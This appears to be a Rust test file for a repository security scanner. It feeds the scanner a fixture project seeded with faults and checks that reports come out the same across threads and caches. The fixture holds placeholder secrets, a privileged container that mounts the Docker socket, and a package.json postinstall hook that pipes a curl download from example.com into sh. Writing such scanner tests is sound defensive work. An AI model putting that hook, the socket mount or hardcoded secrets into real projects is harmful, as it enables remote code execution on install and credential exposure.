//! A whole scan in small: the rules of the house, its detectors and plugins beside each
//! other, and the report that comes of it, to the byte.

use std::sync::{Arc, OnceLock};

use rayon::prelude::*;
use seaworthy_analysis::{NativeRules, Options, RuleSource, Run, Snapshot};
use seaworthy_detectors::{Detectors, Session, embedded};
use seaworthy_model::{Finding, Report, Scope, Statistics};
use seaworthy_plugin_host::{Cache, Host, Limits, PluginRequest, PluginRun, Plugins};
use seaworthy_report::{json, sarif};
use seaworthy_testkit::{Fixture, snapshot};
use serde_json::json;

use crate::guest::{Finding as Found, Guest};

/// A repository with faults of many kinds.
const REPOSITORY: &str = r#"//- .env
DB_PASSWORD=hunter2
GRÖSSE=größer
JWT_SECRET=secret
//- .gitignore
node_modules
//- api/.env.production
DATABASE_URL=postgres://root:root@db.example.com/app
SESSION_SECRET=changeme
//- compose.yml
services:
  db:
    image: postgres
    privileged: true
    environment: { POSTGRES_PASSWORD: postgres }
    ports: ['5432:5432']
    volumes: ['/var/run/docker.sock:/var/run/docker.sock']
//- package.json
{"name": "harbour", "dependencies": {"left": "*"}, "scripts": {"postinstall": "curl http://example.com | sh"}}
//- vercel.json
{"env": {"API_KEY": "p4Rk9wQz7LmN2xVb8TyH3sDf"}, "headers": [{"source": "/(.*)", "headers": [{"key": "Access-Control-Allow-Origin", "value": "*"}]}]}
//- notes.txt
a line
//- .npmrc
//npm.example.com/:_authToken=npm_9fKq2LxT7bWm4RzVc8YdN3sHgJ6pAe1uQo5i
//- src/client.ts
const deploy = { token: "v8Qz3LmT1bWx7RkVc5YdN9sHgJ2pAe4u", region: "eu" };
export const url = "amqp://jobs:k7Rw2LxTqbWm@queue.harbour-shop.com:5672/";
"#;

/// The files of [`REPOSITORY`], read anew.
pub(crate) fn repository() -> Snapshot {
    snapshot(&Fixture::parse(REPOSITORY), true, Options::default())
}

/// The detectors of the house.
fn detectors() -> &'static Detectors {
    static DETECTORS: OnceLock<Detectors> = OnceLock::new();
    let native = |id: &str| {
        let mut natives = seaworthy_rules::all().into_iter();
        &natives.find(|native| native.rule.id == id).expect("a rule of the house").rule
    };
    DETECTORS.get_or_init(|| {
        let (urls, npmrc) = (native("connection-string-credential"), native("npmrc-insecure"));
        Detectors::new(&[embedded()], urls, npmrc)
    })
}

/// Scans with the rules and the detectors of the house, and these plugins if there are
/// any, with this many threads.
pub(crate) fn report(plugins: Option<&Arc<Plugins>>, threads: usize) -> Report {
    let snapshot = repository();
    let natives = NativeRules::new(seaworthy_rules::all());
    let leaks = Session::new(detectors());
    let run = plugins.map(|plugins| PluginRun::new(Arc::clone(plugins)));
    let house: [&dyn RuleSource; 2] = [&natives, &leaks];
    let sources: Vec<&dyn RuleSource> =
        house.into_iter().chain(run.as_ref().map(|run| run as &dyn RuleSource)).collect();
    let new = || Run { snapshot: &snapshot, wanted: &|_, _| true, findings: Vec::new() };
    let pool = rayon::ThreadPoolBuilder::new().num_threads(threads).build().expect("threads");
    let mut findings: Vec<Finding> = pool.install(|| {
        let of_files = snapshot.artifacts().par_iter().flat_map_iter(|artifact| {
            let mut own = new();
            sources.iter().for_each(|source| own.check_file(*source, artifact));
            own.findings
        });
        let of_files: Vec<Finding> = of_files.collect();
        let mut end = new();
        sources.iter().for_each(|source| end.check_whole(&**source));
        sources.iter().for_each(|source| source.conclude(&mut end));
        of_files.into_iter().chain(end.findings).collect()
    });
    findings.sort_by(|a, b| {
        let key = |finding: &Finding| {
            let place = &finding.location;
            (place.artifact.clone(), place.region, finding.rule.id, finding.fingerprint)
        };
        key(a).cmp(&key(b))
    });
    let mut notifications = snapshot.notifications();
    notifications.extend(plugins.iter().flat_map(|plugins| plugins.notifications()).cloned());
    notifications.sort();
    let mut rules: Vec<_> = sources.iter().flat_map(|source| source.rules()).collect();
    rules.sort_by_key(|rule| rule.id);
    Report {
        version: "1.0.0",
        rules,
        extensions: plugins.map(|plugins| plugins.extensions()).unwrap_or_default(),
        findings,
        absent: Vec::new(),
        notifications,
        statistics: Statistics {
            artifacts: snapshot.artifacts().len(),
            documents: snapshot.documents_read(),
        },
        scope: Scope::default(),
        git: None,
        fails_at: None,
        exit_code: 0,
    }
}

/// What the house says in a report, every part of it.
pub(crate) fn of_the_house(report: &Report) -> Vec<String> {
    let of_plugins = |finding: &&Finding| !finding.rule.id.contains('/');
    report.findings.iter().filter(of_plugins).map(|finding| format!("{finding:?}")).collect()
}

/// A report in both forms that machines read.
fn written(report: &Report) -> (String, String) {
    let (mut as_json, mut as_sarif) = (Vec::new(), Vec::new());
    json::write(report, &mut as_json).expect("memory can be written to");
    let options = sarif::Options { profile: sarif::Profile::Full, category: None };
    sarif::write(report, &options, &mut as_sarif).expect("memory can be written to");
    let text = |bytes| String::from_utf8(bytes).expect("reports are UTF-8");
    (text(as_json), text(as_sarif))
}

/// Plugins that find, fail, refuse, log and flood.
fn all_kinds() -> Vec<Guest> {
    let mut found = Found::new("first", "Größe \u{1b}[31mhere.");
    found.fixes = vec![("Mend it".to_owned(), vec![(None, (0, 1), "x".to_owned())])];
    let mut everywhere = Guest::new("everywhere").finding(vec![found, Found::new("gone", "x")]);
    everywhere.kinds = Vec::new();
    let mut over_all = Guest::new("over-all");
    over_all.world = "full-plugin";
    let path = |path: &str| Some(path.to_owned());
    over_all.findings =
        Ok(vec![Found { path: path("notes.txt"), ..Found::new("second", "Look.") }]);
    let many = (0..30).map(|n| Found::new("first", &format!("Number {n}."))).collect();
    let mut many = Guest::new("many").finding(many);
    many.globs = vec!["*.json".to_owned(), ".env*".to_owned()];
    let mut failing = Guest::new("failing").checking("(unreachable)");
    failing.kinds = Vec::new();
    let says = "(call $log (i32.const 2) (i32.const 1024) (i32.const 9))";
    vec![everywhere, over_all, many, failing, Guest::new("says").checking(says)]
}

#[test]
fn reports_hang_neither_on_threads_nor_on_the_cache() {
    let directory = tempfile::tempdir().expect("a temporary directory");
    let limits = Limits { findings_per_call: 20, findings: 50, ..Limits::default() };
    let components: Vec<_> =
        all_kinds().iter().map(|guest| (guest.name.clone(), guest.build())).collect();
    let mut reports = Vec::new();
    for (cache, threads) in [("a", 1), ("b", 8), ("a", 8), ("b", 1), ("a", 8), ("b", 2)] {
        let host = Host::new(Cache::at(directory.path().join(cache)));
        let requests = components.iter().map(|(name, bytes)| {
            let path = directory.path().join(format!("{name}.wasm"));
            std::fs::write(&path, bytes).expect("it can be written");
            PluginRequest {
                name: name.clone(),
                digest: seaworthy_plugin_host::Digest::of(bytes),
                component: Some(path),
                config: json!({}),
                limits: Some(limits.clone()),
                trusted: true,
            }
        });
        let plugins = Arc::new(Plugins::load(&host, &requests.collect::<Vec<_>>()));
        reports.push(written(&report(Some(&plugins), threads)));
    }
    let (as_json, as_sarif) = &reports[0];
    for told in ["everywhere/first", "over-all/second", "many/first", "failing", "says"] {
        assert!(as_json.contains(told) && as_sarif.contains(told), "{told}");
    }
    assert!(!as_json.contains('\u{1b}') && !as_json.contains("\\u001b"));
    assert!(!as_sarif.contains('\u{1b}') && !as_sarif.contains("\\u001b"));
    for other in &reports[1..] {
        assert!(other == &reports[0], "one report, whatever the threads and the cache");
    }
}

#[test]
fn plugins_add_to_what_the_house_says_and_take_nothing() {
    let alone = report(None, 2);
    assert!(alone.findings.len() > 10, "the house has something to say: {}", alone.findings.len());
    assert!(alone.findings.iter().any(|finding| finding.leak.is_some()), "so have its detectors");
    let guests = all_kinds();
    let plugins = crate::scene::plugins(&guests.iter().collect::<Vec<_>>());
    let beside = report(Some(&plugins), 2);
    assert!(beside.findings.len() > alone.findings.len());
    assert_eq!(of_the_house(&beside), of_the_house(&alone));
}
